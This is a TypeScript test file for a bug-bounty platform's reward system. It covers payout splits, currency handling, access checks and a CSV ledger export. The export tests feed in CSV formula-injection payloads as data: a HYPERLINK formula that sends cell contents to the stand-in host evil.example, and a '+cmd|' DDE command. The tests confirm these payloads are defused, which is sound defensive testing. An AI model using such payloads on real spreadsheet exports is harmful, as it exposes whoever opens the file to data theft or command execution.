import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemActor } from '../../src/domain/auth/actor.js';
import { listOutbox, readOutboxMessage } from '../../src/domain/mail/mail.service.js';
import type { ProgramRow } from '../../src/domain/programs/program.js';
import { assertCanReadReport } from '../../src/domain/reports/report.policy.js';
import type { ReportRow } from '../../src/domain/reports/report.js';
import { csvCell, csvRow } from '../../src/domain/rewards/reward-csv.js';
import { assertKnownCurrency, formatMinorUnits, splitAmount, toMinorUnits } from '../../src/domain/rewards/reward.js';
import { DIALECTS } from '../helpers/databases.js';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { actorFor, buildUser, type BuiltUser } from '../helpers/factories.js';
import { buildProgram } from '../helpers/programs.js';

const CRITICAL = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H';

/** A small RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('reward arithmetic and CSV cells', () => {
  it('splits exactly, the remainder to the submitter', () => {
    const people = [
      { userId: 's', share: 60, submitter: true },
      { userId: 'c', share: 40, submitter: false },
    ];
    expect(splitAmount(100_001, people)).toEqual([
      { userId: 's', share: 60, amount: 60_001 },
      { userId: 'c', share: 40, amount: 40_000 },
    ]);
    const thirds = splitAmount(100, [
      { userId: 's', share: 34, submitter: true },
      { userId: 'a', share: 33, submitter: false },
      { userId: 'b', share: 33, submitter: false },
    ]);
    expect(thirds.map((p) => p.amount)).toEqual([34, 33, 33]);
    for (const amount of [1, 7, 99, 12_345, 1_999_999_999]) {
      expect(splitAmount(amount, people).reduce((sum, p) => sum + p.amount, 0)).toBe(amount);
    }
    // Penalties (reputation) round towards zero for collaborators too.
    expect(splitAmount(-7, people).map((p) => p.amount)).toEqual([-5, -2]);
  });

  it('converts between major and minor units by the currency', () => {
    expect(toMinorUnits(5000, 'USD')).toBe(500_000);
    expect(toMinorUnits(5000, 'JPY')).toBe(5000);
    expect(toMinorUnits(1.5, 'BHD')).toBe(1500);
    expect(formatMinorUnits(123_456, 'USD')).toBe('1234.56');
    expect(formatMinorUnits(5, 'USD')).toBe('0.05');
    expect(formatMinorUnits(5, 'JPY')).toBe('5');
    // New input must name an ISO 4217 currency; a code stored before that check still displays.
    expect(() => assertKnownCurrency('BTC')).toThrow(/not a known currency/);
    expect(() => assertKnownCurrency('EUR')).not.toThrow();
    expect(formatMinorUnits(123, 'BTC')).toBe('1.23');
  });

  it('escapes CSV cells and defuses formulas', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const start of ['=', '+', '-', '@', '\t']) expect(csvCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvCell('=HYPERLINK("https://evil.example","click")')).toBe(`"'=HYPERLINK(""https://evil.example"",""click"")"`);
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvRow(['a', '=b'])).toBe("a,'=b\r\n");
  });

  it('lets a named collaborator read the report, and nobody else', () => {
    const report = { id: 'r', reporter_id: 'submitter' } as ReportRow;
    const collaborator = { kind: 'user', userId: 'friend', email: 'f@example.org', roles: ['reporter'], via: 'token', scopes: ['read'] } as const;
    expect(() => assertCanReadReport({ ...collaborator, roles: ['reporter'], scopes: ['read'] }, report, true)).not.toThrow();
    expect(() => assertCanReadReport({ ...collaborator, roles: ['reporter'], scopes: ['read'] }, report)).toThrow('was not found');
    expect(() => assertCanReadReport({ kind: 'anonymous' }, report, true)).toThrow('was not found');
    expect(() => assertCanReadReport(systemActor('t'), report)).not.toThrow();
  });
});

describe.each(DIALECTS)('rewards on %s', (engine) => {
  let t: TestApp;
  let program: ProgramRow;
  let vdp: ProgramRow;
  let triager: BuiltUser;
  let lead: BuiltUser;
  let reporter: BuiltUser;
  let friend: BuiltUser;
  let other: BuiltUser;
  let tier1: string;
  let tier2: string;

  const submit = async (who: BuiltUser, extra: Record<string, unknown> = {}, slug = program.slug) => {
    const res = await t.request({ method: 'POST', url: '/api/v1/reports', token: who.token, payload: { program: slug, title: 'Account takeover via reset token', description: 'The token is predictable.', ...extra } });
    expect(res.statusCode, res.body).toBe(201);
    return res.json() as { id: string };
  };
  const move = async (id: string, to: string, reason?: string) => {
    const res = await t.request({ method: 'POST', url: `/api/v1/reports/${id}/transitions`, token: triager.token, payload: { to, ...(reason ? { reason } : {}) } });
    expect(res.statusCode, res.body).toBe(200);
  };
  const award = (id: string, payload: Record<string, unknown>, who: BuiltUser = triager) => t.request({ method: 'POST', url: `/api/v1/reports/${id}/rewards`, token: who.token, payload });

  beforeAll(async () => {
    t = await buildTestApp(engine);
    program = await buildProgram(t.context);
    vdp = await buildProgram(t.context, { kind: 'vdp', rewards: { currency: 'USD', ranges: [] } });
    triager = await buildUser(t.context, { roles: ['triager'] });
    lead = await buildUser(t.context, { roles: ['lead'] });
    reporter = await buildUser(t.context);
    friend = await buildUser(t.context);
    other = await buildUser(t.context);
    const view = (await t.request({ method: 'GET', url: `/api/v1/programs/${program.slug}` })).json();
    tier1 = view.scope[0].id;
    tier2 = view.scope[1].id;
  });
  afterAll(async () => t?.close());

  it("suggests the range from the programme's table for the report's tier × severity", async () => {
    const report = await submit(reporter, { asset: tier1, cvss: [CRITICAL] });
    const res = await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/reward-suggestion`, token: triager.token });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ programKind: 'bounty', currency: 'USD', tier: 1, severity: 'critical', range: { min: 5000, max: 20000, minAmount: 500_000, maxAmount: 2_000_000 }, reason: null });

    const noRange = (await t.request({ method: 'GET', url: `/api/v1/reports/${(await submit(reporter, { asset: tier2, cvss: [CRITICAL] })).id}/reward-suggestion`, token: triager.token })).json();
    expect(noRange).toMatchObject({ tier: 2, range: null, reason: expect.stringContaining('tier 2 × critical') });
    const noSeverity = (await t.request({ method: 'GET', url: `/api/v1/reports/${(await submit(reporter, { asset: tier1 })).id}/reward-suggestion`, token: triager.token })).json();
    expect(noSeverity).toMatchObject({ range: null, reason: expect.stringContaining('no severity') });

    expect((await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/reward-suggestion`, token: reporter.token })).statusCode).toBe(403);
    expect((await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/reward-suggestion`, token: other.token })).statusCode).toBe(404);
  });

  it('splits an award 60/40 between submitter and collaborator, exactly, and shows it on the timeline', async () => {
    const report = await submit(reporter, { asset: tier1, cvss: [CRITICAL], collaborators: [{ account: friend.row.email.toUpperCase(), share: 40 }] });
    await move(report.id, 'triaged');
    const res = await award(report.id, { amount: 100_001, kind: 'bounty', note: 'Thank you both' });
    expect(res.statusCode, res.body).toBe(201);
    const body = res.json();
    expect(body).toMatchObject({ amount: 100_001, currency: 'USD', kind: 'bounty' });
    const byUser = Object.fromEntries(body.items.map((e: { userId: string; amount: number; share: number }) => [e.userId, e]));
    expect(byUser[reporter.row.id]).toMatchObject({ amount: 60_001, share: 60, state: 'awarded', amountDecimal: '600.01', note: 'Thank you both' });
    expect(byUser[friend.row.id]).toMatchObject({ amount: 40_000, share: 40, state: 'awarded' });
    expect(body.items.reduce((sum: number, e: { amount: number }) => sum + e.amount, 0)).toBe(100_001);

    const timeline = (await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/timeline`, token: reporter.token })).json().items;
    const rewardEvent = timeline.find((e: { kind: string }) => e.kind === 'reward');
    expect(rewardEvent).toMatchObject({ internal: false, data: { amount: 100_001, amountDecimal: '1000.01', currency: 'USD', kind: 'bounty' } });

    const audit = await t.context.db.selectFrom('audit_events').select(['action', 'data']).where('object_id', '=', report.id).execute();
    expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(['report.collaborators_added', 'reward.awarded']));

    // Each recipient is told their own part, never the other's.
    const mails = await listOutbox(t.context.db, { limit: 500 });
    const toFriend = mails.filter((m) => m.recipient === friend.row.email && m.subject.includes('You were awarded'));
    expect(toFriend).toHaveLength(1);
    const text = (await readOutboxMessage(t.context, t.context.db, toFriend[0]!.id)).text;
    expect(text).toContain('You were awarded 400.00 USD');
    expect(text).toContain('40% share');
    expect(text).not.toContain('600.01');
    expect(text).not.toContain('1000.01');
    expect(mails.some((m) => m.recipient === reporter.row.email && m.subject.includes('You were awarded'))).toBe(true);
  });

  it('lets a collaborator read the report and see only their own share', async () => {
    const report = await submit(reporter, { asset: tier1, collaborators: [{ account: friend.row.id, share: 25 }] });
    await move(report.id, 'triaged');
    expect((await award(report.id, { amount: 1000, kind: 'bounty' })).statusCode).toBe(201);
    expect((await award(report.id, { amount: 301, kind: 'bonus' })).statusCode).toBe(201);

    const read = await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}`, token: friend.token });
    expect(read.statusCode, read.body).toBe(200);
    expect(read.json().priority).toBeUndefined();
    expect((await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/timeline`, token: friend.token })).statusCode).toBe(200);

    const friendView = (await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/rewards`, token: friend.token })).json();
    expect(friendView.items.map((e: { userId: string; amount: number }) => [e.userId, e.amount])).toEqual([
      [friend.row.id, 250],
      [friend.row.id, 75],
    ]);
    expect(friendView.items[0].createdBy).toBeUndefined();
    expect(friendView.split).toEqual([
      { userId: reporter.row.id, share: 75, submitter: true },
      { userId: friend.row.id, share: 25, submitter: false },
    ]);
    const reporterView = (await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/rewards`, token: reporter.token })).json();
    expect(reporterView.items.map((e: { amount: number }) => e.amount)).toEqual([750, 226]);
    const staffView = (await t.request({ method: 'GET', url: `/api/v1/reports/${report.id}/rewards`, token: triager.token })).json();
    expect(staffView.items).toHaveLength(4);
    expect(staffView.items[0].createdBy).toBe(triager.row.email);

    for (const url of [`/api/v1/reports/${report.id}`, `/api/v1/reports/${report.id}/rewards`]) {
      expect((await t.request({ method: 'GET', url, token: other.token })).statusCode).toBe(404);
    }
    // A collaborator replies like the reporter, and finds the report in their inbox; triage is not theirs.
    const reply = await t.request({ method: 'POST', url: `/api/v1/reports/${report.id}/comments`, token: friend.token, payload: { body: 'I can add a second proof.' } });
    expect(reply.statusCode, reply.body).toBe(201);
    expect((await t.request({ method: 'POST', url: `/api/v1/reports/${report.id}/comments`, token: friend.token, payload: { body: 'x', internal: true } })).statusCode).toBe(403);
    const inbox = (await t.request({ method: 'GET', url: '/api/v1/reports', token: friend.token })).json();
    expect(inbox.items.map((r: { id: string }) => r.id)).toContain(report.id);
    expect((await t.request({ method: 'GET', url: '/api/v1/reports', token: other.token })).json().items.map((r: { id: string }) => r.id)).not.toContain(report.id);
    expect((await t.request({ method: 'POST', url: `/api/v1/reports/${report.id}/transitions`, token: friend.token, payload: { to: 'resolved', reason: 'x' } })).statusCode).toBe(404);
    expect((await t.request({ method: 'POST', url: `/api/v1/reports/${report.id}/rewards`, token: friend.token, payload: { amount: 1, kind: 'bonus' } })).statusCode).toBe(403);
  });

  it('shows a reporter their own earnings only, with totals per currency', async () => {
    const fresh = await buildUser(t.context);
    const mate = await buildUser(t.context);
    const report = await submit(fresh, { asset: tier1, collaborators: [{ account: mate.row.email, share: 50 }] });
    await move(report.id, 'triaged');
    await award(report.id, { amount: 2001, kind: 'bounty' });
    await award(report.id, { amount: 500, currency: 'EUR', kind: 'bonus' });
    const mine = (await t.request({ method: 'GET', url: '/api/v1/me/earnings', token: fresh.token })).json();
    expect(mine.items.every((e: { userId: string }) => e.userId === fresh.row.id)).toBe(true);
    expect(mine.items).toHaveLength(2);
    expect(mine.totals).toEqual([
      { currency: 'EUR', awarded: 250, paid: 0, cancelled: 0 },
      { currency: 'USD', awarded: 1001, paid: 0, cancelled: 0 },
    ]);
    const theirs = (await t.request({ method: 'GET', url: '/api/v1/me/earnings', token: mate.token })).json();
    expect(theirs.totals).toEqual([
      { currency: 'EUR', awarded: 250, paid: 0, cancelled: 0 },
      { currency: 'USD', awarded: 1000, paid: 0, cancelled: 0 },
    ]);
    const nobody = (await t.request({ method: 'GET', url: '/api/v1/me/earnings', token: other.token })).json();
    expect(nobody).toEqual({ items: [], totals: [] });
    expect((await t.request({ method: 'GET', url: '/api/v1/rewards', token: fresh.token })).statusCode).toBe(403);
  });

  it('refuses awards on a VDP, on reports not triaged or resolved, from reporters, and bad amounts', async () => {
    const onVdp = await submit(reporter, {}, vdp.slug);
    await move(onVdp.id, 'triaged');
    const refused = await award(onVdp.id, { amount: 100, kind: 'bounty' });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().error.message).toContain('vdp');
    expect((await t.request({ method: 'GET', url: `/api/v1/reports/${onVdp.id}/reward-suggestion`, token: triager.token })).json()).toMatchObject({ programKind: 'vdp', range: null });

    const fresh = await submit(reporter, { asset: tier1 });
    const notTriaged = await award(fresh.id, { amount: 100, kind: 'bounty' });
    expect(notTriaged.statusCode).toBe(409);
    expect(notTriaged.json().error.message).toContain('triaged, resolved or disclosed');
    await move(fresh.id, 'triaged');
    expect((await award(fresh.id, { amount: 100, kind: 'bounty' }, reporter)).statusCode).toBe(403);
    expect((await award(fresh.id, { amount: 0, kind: 'bounty' })).json().error.details[0].field).toBe('/amount');
    expect((await award(fresh.id, { amount: 10.5, kind: 'bounty' })).statusCode).toBe(400);
    expect((await award(fresh.id, { amount: 100, kind: 'bounty', currency: 'XYZ1' })).statusCode).toBe(400);
    // Three capital letters are not enough: the code must be a currency.
    const unknown = await award(fresh.id, { amount: 100, kind: 'bounty', currency: 'XXY' });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().error.details[0]).toMatchObject({ field: '/currency', message: '"XXY" is not a known currency' });
    expect((await award(fresh.id, { amount: 100, kind: 'tip' })).statusCode).toBe(400);
    await move(fresh.id, 'resolved', 'Fixed');
    expect((await award(fresh.id, { amount: 100, kind: 'bonus' })).statusCode).toBe(201);
    // A bonus may follow disclosure (the disclosure flow itself is tested in report-workflow.test.ts).
    await t.context.db.updateTable('reports').set({ state: 'disclosed' }).where('id', '=', fresh.id).execute();
    expect((await award(fresh.id, { amount: 250, kind: 'bonus', note: 'For the clear write-up' })).statusCode).toBe(201);
  });

  it('refuses collaborators that cannot be named', async () => {
    const strangerProgram = await buildProgram(t.context, { visibility: 'invite_only' });
    await t.context.db.insertInto('program_members').values({ program_id: strangerProgram.id, user_id: reporter.row.id, created_at: new Date().toISOString() }).execute();
    const before = await t.context.db.selectFrom('reports').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    const cases: [Record<string, unknown>, string, string?][] = [
      [{ collaborators: [{ account: reporter.row.email, share: 10 }] }, '/collaborators/0/account'],
      [{ collaborators: [{ account: 'nobody-here@example.org', share: 10 }] }, '/collaborators/0/account'],
      [{ collaborators: [{ account: friend.row.id, share: 10 }, { account: friend.row.email, share: 10 }] }, '/collaborators/1/account'],
      [{ collaborators: [{ account: friend.row.id, share: 60 }, { account: other.row.id, share: 40 }] }, '/collaborators'],
      [{ collaborators: [{ account: friend.row.id, share: 0 }] }, '/collaborators/0/share'],
      [{ collaborators: Array.from({ length: 6 }, () => ({ account: friend.row.id, share: 1 })) }, '/collaborators'],
      [{ collaborators: [{ account: friend.row.id, share: 10 }] }, '/collaborators/0/account', strangerProgram.slug],
    ];
    for (const [extra, field, slug] of cases) {
      const res = await t.request({ method: 'POST', url: '/api/v1/reports', token: reporter.token, payload: { program: slug ?? program.slug, title: 'x', description: 'y', ...extra } });
      expect(res.statusCode, JSON.stringify(extra)).toBe(400);
      expect(res.json().error.details[0].field, JSON.stringify(extra)).toBe(field);
    }
    const after = await t.context.db.selectFrom('reports').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    expect(Number(after.n)).toBe(Number(before.n));
    // Five collaborators at 19% each leave the submitter 5%.
    const five = await Promise.all(Array.from({ length: 5 }, () => buildUser(t.context)));
    const ok = await submit(reporter, { collaborators: five.map((u) => ({ account: u.row.email, share: 19 })) });
    const split = (await t.request({ method: 'GET', url: `/api/v1/reports/${ok.id}/rewards`, token: reporter.token })).json().split;
    expect(split[0]).toEqual({ userId: reporter.row.id, share: 5, submitter: true });
  });

  it('settles rewards: paid or cancelled by leads only, once, each audited', async () => {
    const report = await submit(reporter, { asset: tier1 });
    await move(report.id, 'triaged');
    const [paidEntry] = (await award(report.id, { amount: 5000, kind: 'bounty' })).json().items;
    const [cancelEntry] = (await award(report.id, { amount: 700, kind: 'bonus' })).json().items;
    const byTriager = await t.request({ method: 'POST', url: `/api/v1/rewards/${paidEntry.id}/state`, token: triager.token, payload: { to: 'paid' } });
    expect(byTriager.statusCode).toBe(403);
    const paid = await t.request({ method: 'POST', url: `/api/v1/rewards/${paidEntry.id}/state`, token: lead.token, payload: { to: 'paid', reference: 'WIRE-2026-114' } });
    expect(paid.statusCode, paid.body).toBe(200);
    expect(paid.json()).toMatchObject({ state: 'paid', reference: 'WIRE-2026-114', paidAt: expect.any(String) });
    const again = await t.request({ method: 'POST', url: `/api/v1/rewards/${paidEntry.id}/state`, token: lead.token, payload: { to: 'cancelled' } });
    expect(again.statusCode).toBe(409);
    expect(again.json().error.code).toBe('invalid_transition');
    const cancelled = await t.request({ method: 'POST', url: `/api/v1/rewards/${cancelEntry.id}/state`, token: lead.token, payload: { to: 'cancelled', reference: 'awarded twice' } });
    expect(cancelled.json()).toMatchObject({ state: 'cancelled', cancelledAt: expect.any(String) });
    expect((await t.request({ method: 'POST', url: '/api/v1/rewards/00000000-0000-4000-8000-000000000000/state', token: lead.token, payload: { to: 'paid' } })).statusCode).toBe(404);

    const audit = await t.context.db.selectFrom('audit_events').select(['action', 'object_id', 'data']).where('object_type', '=', 'reward').execute();
    expect(audit.find((a) => a.object_id === paidEntry.id && a.action === 'reward.paid')?.data).toContain('WIRE-2026-114');
    expect(audit.some((a) => a.object_id === cancelEntry.id && a.action === 'reward.cancelled')).toBe(true);

    const earnings = (await t.request({ method: 'GET', url: '/api/v1/me/earnings', token: reporter.token })).json();
    expect(earnings.items.find((e: { id: string }) => e.id === paidEntry.id).state).toBe('paid');
  });

  it('lists the ledger for leads with filters and keyset pages', async () => {
    const fresh = await buildProgram(t.context);
    const asset = (await t.request({ method: 'GET', url: `/api/v1/programs/${fresh.slug}` })).json().scope[0].id;
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) {
      const report = await submit(reporter, { asset }, fresh.slug);
      await move(report.id, 'triaged');
      ids.push((await award(report.id, { amount: 100 + i, kind: 'bounty' })).json().items[0].id);
    }
    const seen: string[] = [];
    let after: string | null = null;
    do {
      const page = await t.request({ method: 'GET', url: `/api/v1/rewards?program=${fresh.slug}&limit=2${after ? `&after=${after}` : ''}`, token: lead.token });
      expect(page.statusCode, page.body).toBe(200);
      const body = page.json() as { items: { id: string; recipient: { email: string }; program: { slug: string } }[]; next: string | null };
      seen.push(...body.items.map((r) => r.id));
      expect(body.items.every((r) => r.recipient.email === reporter.row.email && r.program.slug === fresh.slug)).toBe(true);
      after = body.next;
    } while (after);
    expect(seen).toEqual([...ids].reverse());
    await t.request({ method: 'POST', url: `/api/v1/rewards/${ids[0]}/state`, token: lead.token, payload: { to: 'paid' } });
    const paidOnly = (await t.request({ method: 'GET', url: `/api/v1/rewards?program=${fresh.slug}&state=paid`, token: lead.token })).json();
    expect(paidOnly.items.map((r: { id: string }) => r.id)).toEqual([ids[0]]);
    expect((await t.request({ method: 'GET', url: '/api/v1/rewards?after=garbage', token: lead.token })).statusCode).toBe(400);
    expect((await t.request({ method: 'GET', url: '/api/v1/rewards', token: triager.token })).statusCode).toBe(403);
  });

  it('exports the ledger as CSV with escaping and formula injection defused', async () => {
    const fresh = await buildProgram(t.context);
    const asset = (await t.request({ method: 'GET', url: `/api/v1/programs/${fresh.slug}` })).json().scope[0].id;
    const title = '=HYPERLINK("https://evil.example/?"&A1,"Click, please")';
    const report = await submit(reporter, { asset, title }, fresh.slug);
    await move(report.id, 'triaged');
    await award(report.id, { amount: 123_456, kind: 'bounty', note: '@SUM(1+1)\nsecond line' });
    await award(report.id, { amount: 99, kind: 'bonus', note: '-2+3' });
    await award(report.id, { amount: 1, kind: 'bonus', note: "+cmd|' /C calc'!A0" });
    const res = await t.request({ method: 'GET', url: `/api/v1/rewards/export.csv?program=${fresh.slug}`, token: lead.token });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toContain('attachment');
    const rows = parseCsv(res.body);
    const header = rows[0]!;
    expect(header).toEqual(expect.arrayContaining(['reward_id', 'amount', 'amount_minor', 'currency', 'recipient_email', 'report_title', 'note']));
    const col = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(4);
    const [first, second, third] = rows.slice(1);
    expect(first![col('report_title')]).toBe(`'${title}`);
    expect(first![col('note')]).toBe("'@SUM(1+1)\nsecond line");
    expect(first![col('amount')]).toBe('1234.56');
    expect(first![col('amount_minor')]).toBe('123456');
    expect(first![col('recipient_email')]).toBe(reporter.row.email);
    expect(second![col('note')]).toBe("'-2+3");
    expect(third![col('note')]).toBe("'+cmd|' /C calc'!A0");
    // No cell a spreadsheet would evaluate.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect((await t.context.db.selectFrom('audit_events').select('action').where('action', '=', 'reward.exported').execute()).length).toBeGreaterThan(0);
    expect((await t.request({ method: 'GET', url: '/api/v1/rewards/export.csv', token: triager.token })).statusCode).toBe(403);
    expect((await t.request({ method: 'GET', url: '/api/v1/rewards/export.csv', token: reporter.token })).statusCode).toBe(403);
  });

  it('keeps the collaborator check out of the way of staff and submitters', async () => {
    const report = await submit(reporter);
    const row = (await t.context.db.selectFrom('reports').selectAll().where('id', '=', report.id).executeTakeFirstOrThrow()) as ReportRow;
    expect(() => assertCanReadReport(actorFor(reporter.row), row)).not.toThrow();
    expect(() => assertCanReadReport(actorFor(other.row), row)).toThrow();
  });
});
